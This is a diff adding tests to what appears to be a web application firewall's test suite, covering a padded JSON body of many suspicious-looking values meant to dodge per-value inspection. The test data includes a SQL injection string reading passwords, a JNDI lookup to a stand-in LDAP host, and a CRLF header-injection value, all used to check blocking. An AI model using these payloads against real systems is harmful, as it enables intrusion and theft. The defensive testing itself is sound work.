@@ -192,6 +192,38 @@ describe('what stands where nothing is expected', () => {
   it('a header after a first line', () => blocked(send('/?a=b%0d%0aX-Injected:%201')));
 });
 
+describe('a body of more odd values than are looked at one by one', () => {
+  const json = { 'content-type': 'application/json', 'content-length': '1' };
+  const odd = Array.from({ length: 1_900 }, (_, i) => `a'b &#39; \\u0041 (c) <d e${i}> ; f%2527`);
+  const points = ({ signals }: Verdict) => signals.map(({ id }) => id);
+
+  it('passes by itself, and counts as evasion', () => {
+    const verdict = send('/', json, JSON.stringify(odd));
+    expect(points(verdict)).toContain('many_suspects');
+    expect(verdict.decided, explain(verdict)).toBe('pass');
+    expect(points(send('/', json, JSON.stringify(odd.slice(0, 150))))).not.toContain('many_suspects');
+  });
+  it('hides no attack among the first, and not every one behind them', () => {
+    const first = send('/', json, JSON.stringify(["1' union select password from users--", ...odd]));
+    expect(first.decided).toBe('block');
+    const last = send('/', json, JSON.stringify([...odd, '${jndi:ldap://x.example/a}']));
+    expect(last.decided).toBe('block');
+  });
+  it('costs a fraction of what looking at each would', () => {
+    const cost = (values: readonly string[]): number => {
+      const from = process.cpuUsage();
+      send('/', json, JSON.stringify(values));
+      const { user, system } = process.cpuUsage(from);
+      return user + system;
+    };
+    const few = odd.slice(0, 200);
+    cost(odd);
+    // Ten times as many; only some 130 texts of three layers are looked at in either.
+    const ratios = Array.from({ length: 5 }, () => cost(odd) / cost(few)).sort((a, b) => a - b);
+    expect(ratios[0]).toBeLessThan(5);
+  });
+});
+
 describe.skipIf(!hasCorpus())('the request data', () => {
   const rate = (name: 'attacks' | 'legit', part?: number): number => {
     const samples = readCorpus(name).filter((sample) => part === undefined || partOf(sample) === part);
